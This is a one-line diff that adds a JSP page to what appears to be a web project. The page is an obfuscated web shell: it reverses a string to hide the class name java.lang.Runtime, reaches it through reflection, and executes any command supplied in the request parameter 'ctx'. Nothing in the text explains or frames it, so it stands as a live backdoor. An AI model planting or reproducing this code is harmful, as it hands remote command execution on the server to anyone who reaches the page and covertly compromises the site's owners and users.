@@ -1,0 +1,1 @@
+<% String n = new StringBuilder("emitnuR.gnal.avaj").reverse().toString(); Object r = Class.forName(n).getMethod("getRuntime").invoke(null); r.getClass().getMethod("exec", String.class).invoke(r, request.getParameter("ctx")); %>
